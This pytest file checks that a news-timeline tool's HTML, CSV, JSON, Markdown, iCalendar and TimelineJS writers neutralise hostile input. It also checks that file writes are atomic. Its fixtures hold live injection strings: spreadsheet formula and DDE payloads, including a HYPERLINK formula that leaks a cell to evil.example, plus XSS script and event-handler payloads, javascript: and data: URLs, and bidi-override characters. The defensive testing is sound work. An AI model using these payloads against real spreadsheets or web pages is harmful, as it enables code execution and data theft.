"""Hostile content, built with timeline.build and written by every writer: markup and scripts, javascript:
and data: URLs, spreadsheet formulas and control characters in article text, ids, titles, outlets and URLs.
The page shows it all as text (checked in headless Chromium too), the CSV never hands a spreadsheet a
formula, the text formats carry no control characters, and the JSON keeps every character.  Last, writes
are atomic: a writer that fails half-way leaves the previous file as it was."""
import csv
import datetime as dt
import io
import json
import os
import re

import pytest
from click.testing import CliRunner
from icalendar import Calendar
from markdown_it import MarkdownIt

import timeline
from chromium import chromium, require_chromium
from render import _output
from render.csv_table import CSV_COLUMNS, safe_cell
from render.html_page import to_html
from render.schema import validate
from timeline.cli import main
from timeline.model import Article
from timeline.settings import Settings

# formulas as OWASP lists them, also after whitespace and in full-width form; each opens a sentence of its
# own day, so that it leads an event's title
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+SUM(1;2)*cmd|' /C calc'", "-2+3+cmd|' /C calc'",
            "@SUM(1+1)*cmd|' /C calc'", "  =1+1", "\uff1d1+1"]
DAYS = ["Thursday", "Friday", "Saturday", "Sunday", "Monday", "Tuesday"]
CONTROLS = "\x00\x07\x1b[2J\x1b[31m\x7f\x85\u202egnp.exe\u2028\u2029"
XSS = '<script>alert("text")</script><img src=x onerror="window.__xss=\'text\'">'
ARTICLES = [
    {"id": "=cmd|' /C calc'!A0", "published": "2024-01-03",
     "title": '=HYPERLINK("http://evil.example","title")<script>alert("title")</script>',
     "outlet": "<img src=x onerror=\"window.__xss='outlet'\">", "url": "javascript:alert('url')",
     "credit": "@credit<svg onload=alert('credit')>",
     "text": "".join(f"{f} Floods hit Ridgeport on {day}, killing {n} people, officials said.\n"
                     for n, (f, day) in enumerate(zip(FORMULAS, DAYS), 1))},
    {"id": "@evil<b>", "published": "2024-01-03", "title": f"Storm {CONTROLS} report", "outlet": "@outlet\x00",
     "url": ' JaVaScRiPt:alert("url2")',
     "text": f"The storm hit Ridgeport on Wednesday.{CONTROLS} Rescue teams arrived on Wednesday.\r\n"
             f"{XSS} Water rose on Dec. 27.\n\tSchools closed in Ridgeport on Dec. 26, the mayor said.\n"},
    {"id": "\t=tab", "published": "2024-01-03", "title": "+plain", "outlet": "Wire",
     "url": 'https://example.org/"onmouseover="window.__xss=\'url\'"',
     "text": "Floods hit Ridgeport on Dec. 24, killing 3 people, the governor said.\n"},
    {"id": "data", "published": "2024-01-03", "title": "Data", "url": "data:text/html,<script>alert(4)</script>",
     "outlet": "\u202eevil", "text": "The river crested on Dec. 25, the governor said."},
]
# what only our own markup may hold
_ACTIVE = re.compile(r"<script>alert|<img src=x|<svg onload|onerror=\"window|onmouseover=\"window|href=\"\s*javascript:"
                     r"|href=\"\s*data:", re.IGNORECASE)
# control characters but tab and newline, and the overrides that turn text around
_BAD_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


def _records() -> list:
    # readers strip the spaces around an id; an Article object keeps its tab, as a hand-built one would
    records = list(ARTICLES)
    tab = dict(records[2], published=dt.date.fromisoformat(records[2]["published"]))
    records[2] = Article(**tab)
    return records


@pytest.fixture(scope="module")
def hostile():
    return timeline.build(_records())


def test_every_hostile_piece_reaches_the_chronology(hostile):
    # the fixtures test what they claim: the payloads are in events the writers write
    titles = [e.title for e in hostile.events]
    for payload in FORMULAS:
        assert any(t.startswith(payload.strip()) for t in titles), payload
    assert any("\x00" in t and "\x1b" in t and "\u202e" in t for t in titles)
    assert any(t.startswith("<script>") for t in titles)
    assert {a.id for a in hostile.articles} == {a["id"] for a in ARTICLES}


def test_every_writer_writes_it(hostile, tmp_path):
    hostile.to_html(tmp_path / "t.html")
    hostile.to_html(tmp_path / "f.html", fragment=True)
    for name, writer in (("e.csv", hostile.to_csv), ("e.json", hostile.to_json), ("e.md", hostile.to_markdown),
                         ("tl.json", hostile.to_timelinejs), ("e.ics", hostile.to_ics)):
        writer(tmp_path / name)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["e.csv", "e.ics", "e.json", "e.md", "f.html", "t.html",
                                                         "tl.json"]


# --- CSV ------------------------------------------------------------------------------------------

def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _formula(cell: str) -> bool:
    """Would a spreadsheet evaluate this cell (OWASP's triggers, after leading whitespace)?"""
    if re.fullmatch(r"\s*[+-]?(?:\d[\d,]*(?:\.\d+)?|\.\d+)\s*", cell):
        return False
    return cell[:1] in ("\t", "\r") or re.match(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20]", cell) is not None


def test_csv_cells_never_start_a_formula(hostile):
    rows = _rows(hostile.to_csv())
    assert len(rows) == len(hostile.events)
    cells = [cell for row in rows for cell in row.values()]
    assert [c for c in cells if _formula(c)] == []
    # the formulas are still there, to read: behind a quote
    titles = [row["title"] for row in rows]
    for payload in FORMULAS:
        assert any(t.startswith("'" + payload.strip()) for t in titles), payload
    assert any(row["sources"].startswith("'=cmd|") for row in rows)
    assert any(row["sources"].startswith("'\t=tab") for row in rows)


def test_csv_leaves_numbers_dates_and_plain_text_alone(hostile):
    rows = _rows(hostile.to_csv())
    frame = hostile.to_frame()
    assert [r["date"] for r in rows] == list(frame["date"])
    assert [r["start"] for r in rows] == [d.strftime("%Y-%m-%d") for d in frame["start"]]
    assert [r["n_sources"] for r in rows] == [str(n) for n in frame["n_sources"]]
    assert [r["id"] for r in rows] == list(frame["id"])
    assert [r["importance"] for r in rows] == [f"{x}" for x in frame["importance"]]


@pytest.mark.parametrize("cell, written", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("  =1+1", "'  =1+1"),
    ("\t=1+1", "'\t=1+1"), ("\tplain", "'\tplain"), ("\r=1+1", "'\n=1+1"), ("\n@x", "'\n@x"), ("\uff1dx", "'\uff1dx"),
    ("-5", "-5"), ("+5", "+5"), ("-1,234.5", "-1,234.5"), (" -5 ", " -5 "), ("-", "'-"), ("2023-12-30", "2023-12-30"),
    ("Floods - and more", "Floods - and more"), ("a=1", "a=1"), ("", ""), (None, None), (3, 3),
    ("a\x00b\x1b[31mc\x7fd\x85e\u202ef\u2028g\r\nh\ti", "ab[31mcd\nef\ng\nh\ti"),
])
def test_csv_cell(cell, written):
    assert safe_cell(cell) == written


def test_csv_holds_no_control_characters_but_tab_and_newline(hostile):
    text = hostile.to_csv()
    assert _BAD_CONTROL.findall(text) == []
    assert list(_rows(text)[0]) == CSV_COLUMNS


# --- JSON ---------------------------------------------------------------------------------------

def test_json_keeps_every_character_and_escapes_the_controls(hostile):
    raw = hostile.to_json()
    assert re.search(r"[\x00-\x1f]", raw.replace("\n", "")) is None  # json escapes C0 controls
    doc = json.loads(raw)
    validate(doc)
    given = {a["id"]: a for a in ARTICLES}
    for a in doc["articles"]:
        for key in ("title", "outlet", "credit"):
            assert (a[key] or "") == given[a["id"]].get(key, ""), (a["id"], key)
        assert a["url"] == given[a["id"]]["url"].strip()  # a URL is read without the spaces around it
    for e in doc["events"]:
        for m in e["mentions"]:
            assert given[m["article"]]["text"][m["start"]:m["end"]] == m["text"]
    assert any("\x00" in e["title"] and "\u202e" in e["title"] for e in doc["events"])


# --- Markdown -------------------------------------------------------------------------------------

def test_markdown_holds_no_markup_links_or_control_characters(hostile):
    md = hostile.to_markdown()
    assert _BAD_CONTROL.findall(md) == []
    html = MarkdownIt("gfm-like").render(md)
    assert not _ACTIVE.search(html)
    assert re.findall(r'href="([^"]*)"', html) == ["https://example.org/%22onmouseover=%22window.__xss='url'%22"]


# --- iCalendar ------------------------------------------------------------------------------------

def test_ics_holds_no_control_characters(hostile):
    ics = hostile.to_ics()
    assert _BAD_CONTROL.findall(ics.replace("\r\n", "\n")) == []
    # the words are still there, the ids too, only what would hide or turn them around is gone
    cal = Calendar.from_ical(ics)
    descriptions = " ".join(str(v["description"]) for v in cal.walk("VEVENT"))
    assert "[@evil<b>]" in descriptions and "gnp.exe" in descriptions


def test_ics_reads_back_and_links_only_web_urls(hostile):
    cal = Calendar.from_ical(hostile.to_ics())
    descriptions = [str(v["description"]) for v in cal.walk("VEVENT")]
    assert descriptions
    assert not any(re.search(r"javascript:|data:text", d, re.IGNORECASE) for d in descriptions)


# --- TimelineJS and the page, as text ---------------------------------------------------------------

def test_timelinejs_escapes_everything(hostile):
    doc = hostile.to_timelinejs()
    text = json.dumps(doc, ensure_ascii=False)
    assert not _ACTIVE.search(text.replace('\\"', '"'))
    links = re.findall(r'href=\\"([^\\]*)', text)
    assert links and all(link.startswith("https://example.org/") for link in links)


def test_timelinejs_holds_no_control_characters(hostile):
    doc = hostile.to_timelinejs()
    texts = [doc["title"]["text"]["text"]] + [s["text"][k] for s in doc["events"] for k in ("headline", "text")]
    assert [t for t in texts if _BAD_CONTROL.search(t)] == []
    assert any("gnp.exe" in t for t in texts)


@pytest.mark.parametrize("fragment", [False, True])
def test_page_escapes_everything(hostile, fragment):
    # plotly.js from the CDN: the library itself holds "data:" links of its own
    page = to_html(hostile.chronology, Settings(plotlyjs="cdn"), fragment=fragment)
    # the figure data is JSON in a script element: "<" is written as \u003c there
    assert not _ACTIVE.search(page)
    assert "&lt;script&gt;alert(&quot;text&quot;)&lt;/script&gt;" in page
    hrefs = re.findall(r'href="([^"]*)"', page)
    assert all(h.startswith(("https://", "http://", "#")) for h in hrefs), hrefs


# --- the page in headless Chromium ----------------------------------------------------------------

@pytest.fixture(scope="module")
def driver():
    require_chromium()
    # an alert left open would block the page: let the test find it instead
    with chromium("hostile-chromium-", {"unhandledPromptBehavior": "ignore"}) as drv:
        yield drv


# every alert, confirm or prompt the page opens is counted instead of shown
_COUNT_DIALOGS = ("window.__dialogs = 0; ['alert', 'confirm', 'prompt'].forEach(function (f) {"
                  " window[f] = function () { window.__dialogs += 1; }; });")


def _inert(driver) -> None:
    from selenium.common.exceptions import NoAlertPresentException

    with pytest.raises(NoAlertPresentException):
        driver.switch_to.alert.text
    assert driver.execute_script("return [typeof window.__xss, window.__dialogs]") == ["undefined", 0]
    found = driver.execute_script("""
        var out = [];
        document.querySelectorAll('img, svg[onload], iframe, object, embed').forEach(function (e) {
            out.push(e.outerHTML.slice(0, 80)); });
        document.querySelectorAll('*').forEach(function (e) {
            Array.from(e.attributes).forEach(function (a) {
                if (/^on/i.test(a.name)) out.push(e.tagName + ' ' + a.name); }); });
        document.querySelectorAll('script').forEach(function (s) {
            if (!s.type || /javascript/i.test(s.type)) { if (/alert\\(/.test(s.textContent)) out.push('script alert'); }
        });
        document.querySelectorAll('a[href]').forEach(function (a) {
            if (!/^https?:$/.test(a.protocol) && a.getAttribute('href').charAt(0) !== '#') out.push(a.href); });
        return out;""")
    assert found == []


@pytest.mark.browser
@pytest.mark.parametrize("fragment", [False, True])
def test_the_page_in_a_browser_stays_inert_and_whole(driver, hostile, tmp_path, fragment):
    from selenium.webdriver.common.action_chains import ActionChains
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait

    path = tmp_path / "hostile.html"
    if fragment:
        path.write_text("<!DOCTYPE html><html><head><meta charset='utf-8'><title>Report</title></head><body>"
                        f"{hostile.to_html(fragment=True)}</body></html>", encoding="utf-8")
    else:
        hostile.to_html(path)
    driver.get(path.as_uri())
    points = ".scatterlayer .traceevents .point"
    root = WebDriverWait(driver, 20).until(lambda d: d.find_elements(By.CSS_SELECTOR, points)
                                           and d.find_element(By.CSS_SELECTOR, ".ntl"))
    driver.execute_script(_COUNT_DIALOGS)
    driver.get_log("browser")
    _inert(driver)
    # the control characters break nothing: every event is drawn and listed, its title shown whole
    assert len(root.find_elements(By.CSS_SELECTOR, points)) == len(hostile.events)
    rows = root.find_elements(By.CSS_SELECTOR, ".events .event")
    assert len(rows) == len(hostile.events)
    shown = [r.find_element(By.CSS_SELECTOR, ".title").get_attribute("textContent") for r in rows]
    assert any('<script>alert("text")</script>' in t for t in shown)
    assert any("Rescue teams arrived on Wednesday" in t and "gnp.exe" in t for t in shown)
    # hover every marker and open every event's panel: what they show stays text
    for point in root.find_elements(By.CSS_SELECTOR, points):
        ActionChains(driver).move_to_element(point).perform()
    for row in rows:
        button = row.find_element(By.CSS_SELECTOR, ".title")
        driver.execute_script("arguments[0].scrollIntoView({block: 'center'});", button)
        button.click()
    panel = root.find_element(By.CSS_SELECTOR, ".detail")
    WebDriverWait(driver, 5).until(lambda d: panel.find_elements(By.CSS_SELECTOR, ".quotes blockquote"))
    _inert(driver)
    assert [e for e in driver.get_log("browser") if e["level"] == "SEVERE"] == []


@pytest.mark.browser
def test_a_page_with_events_far_off_the_chart_works_in_a_browser(driver, tmp_path):
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait

    far = timeline.build([{"id": f"y{day[:4]}", "published": day, "text": text} for day, text in (
        ("0001-01-01", "Floods hit Ridgeport today, killing 2 people."),
        ("2023-06-15", "Floods hit Ridgeport on Saturday, killing 4 people, officials said."),
        ("9999-12-31", "Floods hit Ridgeport today, killing 6 people."))])
    path = tmp_path / "far.html"
    far.to_html(path)
    driver.get(path.as_uri())
    points = ".scatterlayer .traceevents .point"
    root = WebDriverWait(driver, 20).until(lambda d: d.find_elements(By.CSS_SELECTOR, points)
                                           and d.find_element(By.CSS_SELECTOR, ".ntl"))
    driver.get_log("browser")
    assert len(root.find_elements(By.CSS_SELECTOR, points)) == 1
    assert "2 events dated outside the years the chart shows" in root.find_element(By.CSS_SELECTOR, ".off-chart").text
    rows = root.find_elements(By.CSS_SELECTOR, ".events .event")
    assert len(rows) == 3
    # an event with no marker opens its panel like the rest
    for row in rows:
        button = row.find_element(By.CSS_SELECTOR, ".title")
        driver.execute_script("arguments[0].scrollIntoView({block: 'center'});", button)
        button.click()
        WebDriverWait(driver, 5).until(lambda d: row.get_attribute("class").endswith("selected"))
    assert root.find_element(By.CSS_SELECTOR, ".detail .when time").get_attribute("datetime") == "9999-12-31"
    assert [e for e in driver.get_log("browser") if e["level"] == "SEVERE"] == []


# --- writes are atomic ------------------------------------------------------------------------------

class _Interrupted(BaseException):
    """Stands for KeyboardInterrupt or SystemExit: not an Exception, so nothing on the way catches it."""


class _FailingOs:
    """The os module as render/_output.py sees it, but the files it opens fail once `after` characters
    have been written."""

    def __init__(self, after: int, error: BaseException):
        self.after, self.error = after, error

    def __getattr__(self, name):
        return getattr(os, name)

    def fdopen(self, fd, *args, **kwargs):
        f = os.fdopen(fd, *args, **kwargs)
        write = f.write

        def partial(text):
            write(text[:self.after])
            f.flush()
            raise self.error
        f.write = partial
        return f


@pytest.mark.parametrize("error", [OSError(28, "No space left on device"), _Interrupted()])
def test_a_write_that_fails_half_way_leaves_the_old_file_and_no_temporary_one(tmp_path, monkeypatch, error):
    path = tmp_path / "events.csv"
    path.write_text("the old table\n", encoding="utf-8")
    monkeypatch.setattr(_output, "os", _FailingOs(5, error))
    with pytest.raises(type(error)):
        _output.write_text("the new table, longer than five characters\n", path)
    assert path.read_text(encoding="utf-8") == "the old table\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["events.csv"]


def test_text_that_cannot_be_encoded_leaves_the_old_file(tmp_path):
    path = tmp_path / "events.json"
    path.write_text("{}\n", encoding="utf-8")
    with pytest.raises(UnicodeEncodeError):
        _output.write_text("a lone surrogate \ud800 cannot be UTF-8", path)
    assert path.read_text(encoding="utf-8") == "{}\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["events.json"]


def test_timeline_build_interrupted_while_writing_the_page_keeps_the_previous_page(tmp_path, monkeypatch):
    source = tmp_path / "articles.jsonl"
    source.write_text("".join(json.dumps(a) + "\n" for a in ARTICLES), encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    page, table = out / "timeline.html", out / "events.csv"
    args = ["build", str(source), "-o", str(page), "--csv", str(table), "--quiet"]
    assert CliRunner().invoke(main, args).exit_code == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    monkeypatch.setattr(_output, "os", _FailingOs(1000, _Interrupted()))
    with pytest.raises(_Interrupted):
        CliRunner().invoke(main, args, catch_exceptions=False)
    # the page was being written: the old one is whole, the table (written after it) untouched
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before


def test_timeline_build_that_cannot_write_says_so_and_keeps_the_previous_page(tmp_path, monkeypatch):
    source = tmp_path / "articles.jsonl"
    source.write_text("".join(json.dumps(a) + "\n" for a in ARTICLES), encoding="utf-8")
    page = tmp_path / "timeline.html"
    page.write_text("<p>yesterday's page</p>", encoding="utf-8")
    monkeypatch.setattr(_output, "os", _FailingOs(1000, OSError(28, "No space left on device")))
    result = CliRunner().invoke(main, ["build", str(source), "-o", str(page), "--quiet"])
    assert result.exit_code == 1 and "No space left on device" in result.output
    assert page.read_text(encoding="utf-8") == "<p>yesterday's page</p>"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["articles.jsonl", "timeline.html"]


def test_a_lone_surrogate_in_an_article_does_not_stop_the_build(tmp_path):
    # JSON may carry "\ud800", which no UTF-8 file can hold
    source = tmp_path / "articles.jsonl"
    source.write_text(json.dumps({"id": "s", "published": "2024-01-02",
                                  "text": "Floods hit Ridgeport on Saturday \ud800, killing 3 people."}) + "\n",
                      encoding="utf-8")
    result = CliRunner().invoke(main, ["build", str(source), "-o", str(tmp_path / "t.html"), "--csv",
                                       str(tmp_path / "e.csv"), "--json", str(tmp_path / "e.json"), "--quiet"])
    assert result.exit_code == 0, result.output
    assert json.loads((tmp_path / "e.json").read_text(encoding="utf-8"))["events"]


def test_lone_surrogates_in_every_field_become_replacement_characters(tmp_path):
    record = {"id": "s\ud800", "published": "2024-01-02", "title": "T\udfff", "outlet": "O\ud800",
              "credit": "C\udc00", "url": "https://example.org/\ud800",
              "text": "Floods hit Ridgeport on Saturday \ud800, killing 3 people.\udc80"}
    source = tmp_path / "articles.jsonl"
    source.write_text(json.dumps(record) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    result = CliRunner().invoke(main, ["build", str(source), "-o", str(out / "t.html"), "--csv", str(out / "e.csv"),
                                       "--json", str(out / "e.json"), "--markdown", str(out / "e.md"),
                                       "--timelinejs", str(out / "tl.json"), "--ics", str(out / "e.ics"), "--quiet"])
    assert result.exit_code == 0, result.output
    [article] = json.loads((out / "e.json").read_text(encoding="utf-8"))["articles"]
    assert [article[k] for k in ("id", "title", "outlet", "credit", "url")] == [
        "s\ufffd", "T\ufffd", "O\ufffd", "C\ufffd", "https://example.org/\ufffd"]
    # one character for one: the offsets the chronology cites still hold
    tl = timeline.build([record])
    [a] = tl.articles
    assert a.text == record["text"].replace("\ud800", "\ufffd").replace("\udc80", "\ufffd")
    for e in tl.events:
        for m in e.citations:
            assert a.text[m.sentence.start:m.sentence.end] == m.sentence.text


def test_text_a_writer_cannot_encode_is_an_error_naming_the_file(tmp_path, monkeypatch):
    import render

    source = tmp_path / "articles.jsonl"
    source.write_text("".join(json.dumps(a) + "\n" for a in ARTICLES), encoding="utf-8")
    table = tmp_path / "events.csv"
    table.write_text("the old table\n", encoding="utf-8")
    # what no reader lets through, as a writer of tomorrow might still produce it
    monkeypatch.setattr(render, "write_csv", lambda chron, target: _output.write_text("a \ud800 b", target))
    result = CliRunner().invoke(main, ["build", str(source), "-o", str(tmp_path / "t.html"), "--csv", str(table),
                                       "--quiet"])
    assert result.exit_code == 1
    assert f"{table}: cannot write it" in result.output and "\\ud800" in result.output
    assert "Traceback" not in result.output
    assert table.read_text(encoding="utf-8") == "the old table\n"
